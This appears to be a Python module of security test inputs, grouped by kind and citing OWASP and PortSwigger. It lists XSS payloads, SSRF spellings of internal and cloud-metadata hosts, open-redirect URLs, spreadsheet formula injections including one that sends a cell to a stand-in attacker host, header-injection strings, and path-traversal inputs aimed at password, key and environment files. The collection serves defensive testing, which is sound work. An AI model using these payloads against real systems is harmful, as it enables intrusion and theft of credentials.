"""What attackers send, by kind: each line another mechanism.

Written for these tests along the kinds that OWASP's cheat sheets (Cross Site Scripting Filter Evasion, Server Side
Request Forgery, Unvalidated Redirects), its Web Security Testing Guide and PortSwigger's Web Security Academy tell of.
"""

# Scripts that `alert` once a browser takes them for HTML, or for the address of a link.
XSS = [
    "<script>alert(1)</script>",
    "<ScRiPt >alert(1)</sCrIpT >",  # in other letters, with spaces
    "<script/src=data:,alert(1)></script>",  # from an address
    "<scr<script>ipt>alert(1)</scr</script>ipt>",  # what is left once a filter has taken the inner one
    "<script>alert(1)//",  # never closed
    "<img src=x onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)//",  # slashes for spaces, no end
    "<img src=x:x onerror\t=\nalert(1)>",  # white space about the sign
    "<IMG SRC=x ONERROR=&#97;lert(1)>",  # written as entities
    "<svg onload=alert(1)>",
    "<svg><script>alert&lpar;1)</script></svg>",  # entities count within foreign elements
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text y="9">x</text></a></svg>',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',  # mutation
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',  # read differently with scripts off
    "<details open ontoggle=alert(1)>x</details>",
    "<input autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<body onload=alert(1)>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<form action=javascript:alert(1)><button>x</button></form>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='java&#9;script:alert(1)'>x</a>",  # browsers leave tabs out
    "<a href='&#1;javascript:alert(1)'>x</a>",  # and control characters before it
    "<a href='JaVaScRiPt&colon;alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='vbscript:alert(1)'>x</a>",
    "[x](javascript:alert(1))",  # Markdown
    "[x](<java\tscript:alert(1)>)",
    "[x](&#106;avascript:alert(1))",
    '![x](x"onerror="alert(1))',
    "<javascript:alert(1)>",  # Markdown's own way to write a link
    "[x]: javascript:alert(1)\n\n[x]",
    '"><img src=x onerror=alert(1)>',  # out of an attribute
    "' autofocus onfocus=alert(1) x='",
    "</title><script>alert(1)</script>",  # out of an element that takes no other
    "</textarea><script>alert(1)</script>",
    "--><script>alert(1)</script>",  # out of a comment
    "]]><script>alert(1)</script>",
    "{{constructor.constructor('alert(1)')()}}",  # a template's language in the browser
    "＜script＞alert(1)＜/script＞",  # wide letters that some databases make narrow
    "<style>@import 'javascript:alert(1)';</style>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<base href='javascript:alert(1)//'>",
    "<link rel=stylesheet href='javascript:alert(1)'>",
    "<div style='background:url(javascript:alert(1))'>x</div>",
]

# Hosts that lead inside, in whatever way they are written.
SSRF = [
    "127.0.0.1",
    "localhost",
    "localhost.",  # from the root of names
    "LOCALHOST",
    "127.1",  # parts left out
    "127.000.000.001",
    "2130706433",  # one number
    "0x7f000001",
    "0x7f.0x0.0x0.0x1",
    "0177.0.0.1",  # octal
    "017700000001",
    "0",
    "0.0.0.0",  # noqa: S104 - nothing is bound to it
    "[::]",
    "[::1]",
    "[0:0:0:0:0:0:0:1]",
    "[::ffff:127.0.0.1]",  # IPv4 in IPv6
    "[::ffff:7f00:1]",
    "[::127.0.0.1]",
    "[64:ff9b::7f00:1]",  # behind NAT64
    "[2002:7f00:1::]",  # behind 6to4
    "[fe80::1%25lo]",  # of one network card
    "[fd00:ec2::254]",  # a cloud's metadata
    "169.254.169.254",
    "169.254.170.2",
    "100.100.100.200",
    "192.0.0.192",
    "10.0.0.1",
    "172.16.0.1",
    "192.168.0.1",
    "①②⑦.⓪.⓪.①",  # digits in circles are digits once a name is prepared
    "１２７.0.0.1",  # wide
    "127。0。0。1",  # the stop of another script
    "loc\u00adalhost",  # a hyphen that is not seen
    "example.com@127.0.0.1",  # a name to log in with
    "127.0.0.1#@example.com",
    "127.0.0.1\\@example.com",
]

# Addresses to go on to, none of them a page of ours.
REDIRECTS = [
    "https://evil.example/",
    "HTTPS://evil.example/",
    "//evil.example",
    "///evil.example",
    "////evil.example",
    "/\\evil.example",
    "\\/evil.example",
    "\\\\evil.example",
    "http:evil.example",
    "https:/evil.example",
    "https:///evil.example",
    "https:\\\\evil.example",
    "https://testserver@evil.example/",
    "https://testserver:x@evil.example/",
    "https://testserver.evil.example/",
    "https://evil.example#testserver",
    "https://evil.example?testserver",
    "https://evil.example\\@testserver/",
    "https://evil.example\\.testserver/",
    "ftp://testserver/evil",
    "javascript:alert(1)//evil",
    "java\nscript:alert(1)//evil",
    "data:text/html,evil",
    "vbscript:evil",
    "/\t/evil.example",
    "/\n/evil.example",
    "\x00//evil.example",
    "\x01https://evil.example",
    " //evil.example",
    "\u3000//evil.example",
    "//evil.example/%2f..",
    "//evil。example",
    "//[::ffff:93.184.215.14]/evil",
    "/\r\nLocation: https://evil.example/",
]

# What a spreadsheet takes for a formula.
FORMULAS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1,1)",
    "=cmd|' /C calc'!A0",  # another program
    '=HYPERLINK("https://evil.example?"&A1,"x")',  # sends a cell away
    '=IMPORTXML("https://evil.example","//a")',
    '=WEBSERVICE("https://evil.example")',
    '=DDE("cmd";"/C calc";"x")',
    "%0A=1+1",
    "|calc",
    " =1+1",  # behind what is not seen
    "\t=1+1",
    "\n=1+1",
    "\r=1+1",
    "\u00a0=1+1",
    "\u3000=1+1",
    "＝1+1",  # wide
    "﹦1+1",
    "－1+1",
    "＠SUM(1,1)",
    "−1+1",  # a minus that is no hyphen
    '"=1+1',  # behind a quotation mark
    '"",=1+1',
    ",=1+1",  # behind whatever parts cells
    ";=1+1",
    "x\t=1+1",
    "x\n=1+1",
    "x\u2028=1+1",
    'x;" =1+1',
]

# Names of hosts that are none of ours.
HOSTS = [
    "evil.example",
    "testserver.evil.example",
    "evil.example:80",
    "testserver:80@evil.example",
    "testserver@evil.example",
    "testserver#evil.example",
    "testserver/evil.example",
    "testserver?evil.example",
    "testserver\\evil.example",
    "testserver evil.example",
    "testserver,evil.example",
    "testserver;evil.example",
    "testserver:evil.example",
    "testserver:80:evil",
    "testserver:-1",
    "testserver%00.evil.example",
    "testserver\x00.evil.example",
    "testserver\tevil",
    "eviltestserver",
    "testserver..",
    ".testserver.evil",
    "testserver'\"><script>",
    "[::1]evil.example",
    "[evil.example]",
    "xn--testserver-evil",
    "127.0.0.2",
    "0x7f000001",
    "tеstserver",  # with a letter of another script
]

# Ways out of a folder, as the name of a file or as part of an address.
PATHS = [
    "../../../../etc/passwd",
    "..\\..\\..\\windows\\win.ini",
    "/etc/passwd",
    "//etc/passwd",
    "\\\\evil.example\\share\\x",  # another machine's
    "C:\\windows\\win.ini",
    "C:win.ini",
    "file:///etc/passwd",
    "....//....//etc/passwd",  # what is left once a filter has taken the inner ones
    "..././..././etc/passwd",
    "%2e%2e%2f%2e%2e%2fetc/passwd",
    "%252e%252e%252fetc/passwd",  # written so twice
    "..%c0%af..%c0%afetc/passwd",  # longer than UTF-8 allows
    "..%ef%bc%8fetc/passwd",  # a wide slash
    "..／..／etc/passwd",
    "．．/．．/etc/passwd",
    "..;/..;/etc/passwd",
    "./././../etc/passwd",
    "a/../../etc/passwd",
    "../../etc/passwd\x00.png",  # cut at the NUL
    "../../etc/passwd%00.png",
    "../.env",
    ".htaccess",
    "..",
    ".",
    "~/.ssh/id_rsa",
    "/proc/self/environ",
    "con.txt",  # a device of Windows
    "a.txt::$DATA",
    "passwd\u202egnp.txt",  # read from right to left
]

# Texts that would begin another line of a header.
HEADERS = [
    "a\r\nX-Evil: 1",
    "a\nX-Evil: 1",
    "a\rX-Evil: 1",
    "a\r\n\r\n<script>X-Evil: 1</script>",  # a body of its own
    "a\r\n X-Evil: 1",  # as if folded
    "a\n\tX-Evil: 1",
    "\r\nX-Evil: 1",
    "a\r\n",
    "a\x00\r\nX-Evil: 1",
    "a\x0bX-Evil: 1",
    "a\x0cX-Evil: 1",
    "a\x1cX-Evil: 1",  # what Python takes for the end of a line
    "a\x1dX-Evil: 1",
    "a\x1eX-Evil: 1",
    "a\x85X-Evil: 1",
    "a\u2028X-Evil: 1",
    "a\u2029X-Evil: 1",
    "a\u560d\u560aX-Evil: 1",  # letters whose last bytes are a line's end
    "a%0d%0aX-Evil: 1",
    "a\\r\\nX-Evil: 1",
    "=?utf-8?q?a=0D=0AX-Evil:_1?=",  # as e-mails write other letters
    'a"; filename="X-Evil',  # out of a quoted part
    "a\r\nBcc: evil@example.com",
    "a\r\nSubject: X-Evil",
    "a>\r\nRCPT TO:<evil@example.com>",
]
